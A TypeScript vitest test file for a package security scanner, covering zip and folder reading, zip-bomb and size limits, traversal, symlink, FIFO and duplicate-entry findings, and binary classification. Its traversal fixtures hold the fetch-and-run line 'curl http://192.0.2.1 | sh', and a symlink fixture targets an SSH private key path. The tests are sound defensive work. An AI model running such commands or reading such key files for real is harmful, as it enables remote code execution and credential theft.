import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { binaryTypeOf, classify, looksLikeText } from '../../src/artifact/classify.js';
import { readFolder } from '../../src/artifact/folder.js';
import { readZip } from '../../src/artifact/zip.js';
import { BeagleError } from '../../src/core/errors.js';
import { type ReadLimits, withLimits } from '../../src/core/limits.js';
import { scan } from '../../src/scan.js';
import { benignPackageFiles, makeZip } from '../helpers/archives.js';

const tmp = mkdtempSync(path.join(os.tmpdir(), 'beagle-zip-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function read(data: Buffer, limits: Partial<ReadLimits> = {}) {
  return readZip(data, { limits: withLimits(limits), label: 'fixture.zip' });
}

async function rejection(p: Promise<unknown>): Promise<BeagleError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(BeagleError);
  return err as BeagleError;
}

describe('readZip', () => {
  it('reads regular entries with their unix modes, skipping directories', async () => {
    const zip = makeZip([
      { name: 'pkg/', unixMode: 0o040755 },
      { name: 'pkg/setup.py', content: 'print(1)\n', unixMode: 0o100755 },
      { name: 'pkg/data.txt', content: 'hello\n' },
    ]);
    const r = await read(zip);
    expect(r.files.map((f) => f.path).sort()).toEqual(['pkg/data.txt', 'pkg/setup.py']);
    expect(r.files.find((f) => f.path === 'pkg/setup.py')!.mode! & 0o777).toBe(0o755);
    expect(r.findings).toEqual([]);
  });

  it('strips the root folder when asked', async () => {
    const zip = makeZip([{ name: 'demo-1.0/PKG-INFO', content: 'Name: demo\n' }]);
    const r = await readZip(zip, { limits: withLimits(), stripRoot: true, label: 'x' });
    expect(r.files.map((f) => f.path)).toEqual(['PKG-INFO']);
  });

  it('refuses a zip bomb by per-entry ratio (limit)', async () => {
    const zip = makeZip([{ name: 'zeros.bin', content: Buffer.alloc(4 << 20), level: 9 }]);
    expect(zip.length).toBeLessThan(64 * 1024);
    const err = await rejection(read(zip));
    expect(err.code).toBe('limit');
    expect(err.message).toMatch(/ratio|zip bomb/);
  });

  it('refuses entries adding up over the total limit (limit)', async () => {
    const zip = makeZip([
      { name: 'a.txt', content: Buffer.alloc(600_000, 0x61), level: 0 },
      { name: 'b.txt', content: Buffer.alloc(600_000, 0x62), level: 0 },
    ]);
    expect((await rejection(read(zip, { maxTotalBytes: 1_000_000 }))).code).toBe('limit');
  });

  it('refuses too many entries (limit)', async () => {
    const zip = makeZip(Array.from({ length: 12 }, (_, i) => ({ name: `f${i}.txt`, content: `${i}` })));
    expect((await rejection(read(zip, { maxEntries: 5 }))).code).toBe('limit');
  });

  it('skips an oversize entry with ARC-005', async () => {
    const zip = makeZip([
      { name: 'big.txt', content: 'y'.repeat(4000), level: 0 },
      { name: 'ok.txt', content: 'ok' },
    ]);
    const r = await read(zip, { maxFileBytes: 1000 });
    expect(r.files.map((f) => f.path)).toEqual(['ok.txt']);
    expect(r.findings.map((f) => [f.ruleId, f.file])).toEqual([['ARC-005', 'big.txt']]);
  });

  it('reports traversal entries as ARC-001 and does not read them', async () => {
    const zip = makeZip([
      { name: '../../evil.sh', content: 'curl http://192.0.2.1 | sh' },
      { name: '/abs/evil.sh', content: 'curl http://192.0.2.1 | sh' },
      { name: 'ok.txt', content: 'ok' },
    ]);
    const r = await read(zip);
    expect(r.files.map((f) => f.path)).toEqual(['ok.txt']);
    expect(
      r.findings
        .filter((f) => f.ruleId === 'ARC-001')
        .map((f) => f.file)
        .sort(),
    ).toEqual(['../../evil.sh', '/abs/evil.sh']);
  });

  it('reports a symlink (unix mode S_IFLNK) as ARC-002 with its target, not as a file', async () => {
    const zip = makeZip([
      { name: 'link', content: '/home/user/.ssh/id_rsa', unixMode: 0o120777 },
      { name: 'ok.txt', content: 'ok' },
    ]);
    const r = await read(zip);
    expect(r.files.map((f) => f.path)).toEqual(['ok.txt']);
    const link = r.findings.find((f) => f.ruleId === 'ARC-002')!;
    expect(link.file).toBe('link');
    expect(link.severity).toBe('high');
    expect(link.evidence).toMatchObject({ linkTarget: '/home/user/.ssh/id_rsa', linkType: 'symlink' });
  });

  it('reports a FIFO (unix mode S_IFIFO) as ARC-003', async () => {
    const zip = makeZip([{ name: 'pipe', content: '', unixMode: 0o010644 }]);
    const r = await read(zip);
    expect(r.files).toEqual([]);
    expect(r.findings.map((f) => f.ruleId)).toEqual(['ARC-003']);
  });

  it('flags an encrypted entry as a warning and does not analyse it', async () => {
    const zip = makeZip([
      { name: 'secret.py', content: 'import os\n', encrypted: true },
      { name: 'ok.txt', content: 'ok' },
    ]);
    const r = await read(zip);
    expect(r.files.map((f) => f.path)).toEqual(['ok.txt']);
    expect(r.warnings).toEqual(['secret.py: encrypted zip entry, not analysed']);
  });

  it('reports duplicate entries with different content as ARC-004 (last copy kept)', async () => {
    // fflate refuses duplicate names, so build two zips and splice the second entry in by renaming.
    const zip = makeZip([
      { name: 'a.txt', content: 'first', level: 0 },
      { name: 'b.txt', content: 'later', level: 0 },
    ]);
    // Rename every occurrence of b.txt (local header + central directory) to a.txt.
    const patched = Buffer.from(zip.toString('latin1').replaceAll('b.txt', 'a.txt'), 'latin1');
    const r = await read(patched);
    expect(r.files.map((f) => f.path)).toEqual(['a.txt']);
    expect(r.files[0]!.data.toString()).toBe('later');
    expect(r.findings.map((f) => f.ruleId)).toEqual(['ARC-004']);
  });

  it('rejects corrupt and truncated zips with corrupt-archive', async () => {
    const zip = makeZip([{ name: 'a.txt', content: 'hello world '.repeat(100) }]);
    expect((await rejection(read(zip.subarray(0, zip.length - 30)))).code).toBe('corrupt-archive');
    expect((await rejection(read(Buffer.from('PK\x03\x04 not really a zip')))).code).toBe('corrupt-archive');
    const flipped = Buffer.from(zip);
    for (let i = 40; i < 80; i++) flipped[i] = flipped[i]! ^ 0x5a;
    expect((await rejection(read(flipped))).code).toBe('corrupt-archive');
  });
});

describe('readFolder', () => {
  it('reads files, never follows symlinks (file or directory) and skips node_modules/.git', async () => {
    const root = path.join(tmp, 'pkg');
    const outside = path.join(tmp, 'outside');
    mkdirSync(path.join(root, 'lib'), { recursive: true });
    mkdirSync(path.join(root, 'node_modules/dep'), { recursive: true });
    mkdirSync(path.join(root, '.git'), { recursive: true });
    mkdirSync(outside, { recursive: true });
    for (const [name, content] of Object.entries(benignPackageFiles()))
      writeFileSync(path.join(root, name), content);
    writeFileSync(path.join(root, 'lib/util.js'), 'module.exports = 2;\n');
    writeFileSync(path.join(root, 'node_modules/dep/index.js'), 'module.exports = 3;\n');
    writeFileSync(path.join(root, '.git/config'), '[core]\n');
    writeFileSync(path.join(outside, 'secret.txt'), 'TOP SECRET OUTSIDE THE PACKAGE\n');
    symlinkSync(path.join(outside, 'secret.txt'), path.join(root, 'secret-link'));
    symlinkSync(outside, path.join(root, 'dir-link'));

    const r = await readFolder(root, withLimits(), root);
    expect(r.files.map((f) => f.path).sort()).toEqual([
      'README.md',
      'index.js',
      'lib/util.js',
      'package.json',
    ]);
    expect(r.files.some((f) => f.data.toString().includes('TOP SECRET'))).toBe(false);
    const links = r.findings.filter((f) => f.ruleId === 'ARC-002');
    expect(links.map((f) => f.file).sort()).toEqual(['dir-link', 'secret-link']);
    expect(links.every((f) => f.severity === 'high')).toBe(true);

    const report = await scan(root);
    expect(report.package?.source.type).toBe('folder');
    expect(report.findings.some((f) => f.ruleId === 'ARC-002')).toBe(true);
  });

  it('reports a FIFO in a folder as ARC-003 without opening it (reading it would block)', async () => {
    const root = path.join(tmp, 'fifopkg');
    mkdirSync(root, { recursive: true });
    writeFileSync(path.join(root, 'package.json'), '{"name":"fifo","version":"1.0.0"}');
    try {
      execFileSync('mkfifo', [path.join(root, 'pipe')]);
    } catch {
      console.warn('mkfifo unavailable; skipping the FIFO folder check');
      return;
    }
    const r = await readFolder(root, withLimits(), root);
    expect(r.files.map((f) => f.path)).toEqual(['package.json']);
    expect(r.findings.map((f) => [f.ruleId, f.file])).toEqual([['ARC-003', 'pipe']]);
  });

  it('applies the single-file limit to folders (ARC-005)', async () => {
    const root = path.join(tmp, 'bigpkg');
    mkdirSync(root, { recursive: true });
    writeFileSync(path.join(root, 'package.json'), '{"name":"big","version":"1.0.0"}');
    writeFileSync(path.join(root, 'huge.js'), 'z'.repeat(3000));
    const r = await readFolder(root, withLimits({ maxFileBytes: 1000 }), root);
    expect(r.files.map((f) => f.path)).toEqual(['package.json']);
    expect(r.findings.map((f) => f.ruleId)).toEqual(['ARC-005']);
  });

  it('an unreadable folder path is a BeagleError', async () => {
    const err = await rejection(readFolder(path.join(tmp, 'missing'), withLimits(), 'missing'));
    expect(err.code).toBe('io');
  });
});

describe('classify', () => {
  const pad = (head: number[], n = 64) => Buffer.concat([Buffer.from(head), Buffer.alloc(n, 1)]);

  it.each([
    ['a.so', [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1], 'elf'],
    ['a.exe', [0x4d, 0x5a, 0x90, 0], 'pe'],
    ['a.dylib', [0xcf, 0xfa, 0xed, 0xfe], 'macho'],
    ['a.dylib', [0xfe, 0xed, 0xfa, 0xce], 'macho'],
    ['fat', [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2], 'macho'],
    ['Main.class', [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34], 'java-class'],
    ['addon.node', [0x7f, 0x45, 0x4c, 0x46], 'node-addon'],
    ['addon.node', [0x4d, 0x5a], 'node-addon'],
    ['addon.node', [0xcf, 0xfa, 0xed, 0xfe], 'node-addon'],
    ['m.wasm', [0x00, 0x61, 0x73, 0x6d, 1, 0, 0, 0], 'wasm'],
    ['x.zip', [0x50, 0x4b, 0x03, 0x04], 'archive'],
    ['x.gz', [0x1f, 0x8b, 8], 'archive'],
  ])('%s with magic %j is binary %s', (name, head, type) => {
    const c = classify(name, pad(head));
    expect(c).toEqual({ kind: 'binary', binaryType: type });
  });

  it('text files are text, including UTF-8 and empty files', () => {
    expect(classify('index.js', Buffer.from('module.exports = "héllo ✓";\n'))).toEqual({ kind: 'text' });
    expect(classify('empty.js', Buffer.alloc(0))).toEqual({ kind: 'text' });
    expect(binaryTypeOf('README.md', Buffer.from('# hi'))).toBeUndefined();
  });

  it('unknown bytes with NULs or many control characters are binary other', () => {
    expect(classify('blob.dat', Buffer.from([1, 2, 0, 3, 4]))).toEqual({
      kind: 'binary',
      binaryType: 'other',
    });
    expect(looksLikeText(Buffer.from([1, 2, 3, 4, 5, 6, 0x41]))).toBe(false);
    expect(looksLikeText(Buffer.from('line\r\n\ttabbed\f'))).toBe(true);
  });

  it('a .node file that is text is not an addon', () => {
    expect(classify('fake.node', Buffer.from('module.exports = 1'))).toEqual({ kind: 'text' });
  });
});
